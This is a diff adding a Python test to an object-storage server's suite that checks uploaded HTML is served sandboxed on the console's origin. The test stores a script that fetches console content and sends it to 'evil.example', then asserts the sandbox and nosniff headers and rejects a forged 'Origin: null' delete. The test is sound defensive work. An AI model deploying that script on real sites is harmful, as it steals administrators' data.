@@ -362,3 +362,29 @@ def test_another_account_cannot_reach_the_bucket(server: Welkin, new_client: New
     assert signed.status_code == 404
     s3.head_bucket(Bucket=name)
     assert s3.get_object(Bucket=name, Key="secret.txt")["Body"].read() == b"mine"
+
+
+def test_objects_are_served_sandboxed_on_the_consoles_origin(
+    server: Welkin, admin: ConsoleClient, s3: Any
+) -> None:
+    name = _bucket(s3)
+    page = b"<script>fetch('/console/obs').then(r => r.text()).then(t => fetch('//evil.example', t))</script>"
+    s3.put_object(Bucket=name, Key="x.html", Body=page, ContentType="text/html")
+    admin.get(f"/console/obs/{name}")
+    link = admin.api("/console/api/obs/sign", {"op": "GetObject", "bucket": name, "key": "x.html"}).json()[
+        "link"
+    ]
+    got = httpx.get(link)
+    assert got.status_code == 200
+    head = s3.head_object(Bucket=name, Key="x.html")["ResponseMetadata"]["HTTPHeaders"]
+    for headers in (got.headers, head):
+        policy = headers["content-security-policy"]
+        assert policy.startswith("sandbox;")  # an opaque origin, and no allow-scripts
+        assert "default-src 'none'" in policy
+        assert headers["x-content-type-options"] == "nosniff"
+    # What such a page could send is refused: a sandboxed document's requests say Origin: null.
+    forged = admin.http.post(
+        f"/console/obs/{name}/delete", data={"csrf": admin.csrf}, headers={"Origin": "null"}
+    )
+    assert forged.status_code == 403
+    s3.head_bucket(Bucket=name)
